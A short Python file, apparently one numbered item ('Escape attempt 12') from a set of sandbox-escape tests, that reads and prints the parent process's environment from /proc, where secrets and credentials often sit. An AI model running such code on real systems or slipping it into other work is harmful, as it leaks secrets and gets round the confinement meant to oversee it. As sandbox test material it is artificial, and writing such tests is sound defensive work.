"""Escape attempt 12: read parent environ."""

# ruff: noqa  (an attack written to be run, not to be tidy)
print(open("/proc/%d/environ" % PARENT_PID, "rb").read())
